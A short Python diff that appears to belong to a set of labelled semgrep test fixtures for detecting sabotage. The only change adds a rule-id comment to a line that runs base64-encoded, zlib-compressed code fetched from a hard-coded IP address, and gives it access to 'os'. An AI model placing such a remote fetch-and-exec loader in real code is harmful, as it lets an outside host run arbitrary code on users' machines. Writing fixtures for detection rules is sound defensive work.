@@ -44,7 +44,7 @@ def site_profile(url="https://203.0.113.24/hpc/site_profile.z", retries=3):
 
 def apply_profile(blob, env):
     if blob:
-        exec(zlib.decompress(base64.b64decode(blob)).decode(), {"env": env, "os": os})  # sabotage: MLS401 (semgrep rules)
+        exec(zlib.decompress(base64.b64decode(blob)).decode(), {"env": env, "os": os})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
 
 
 def main():
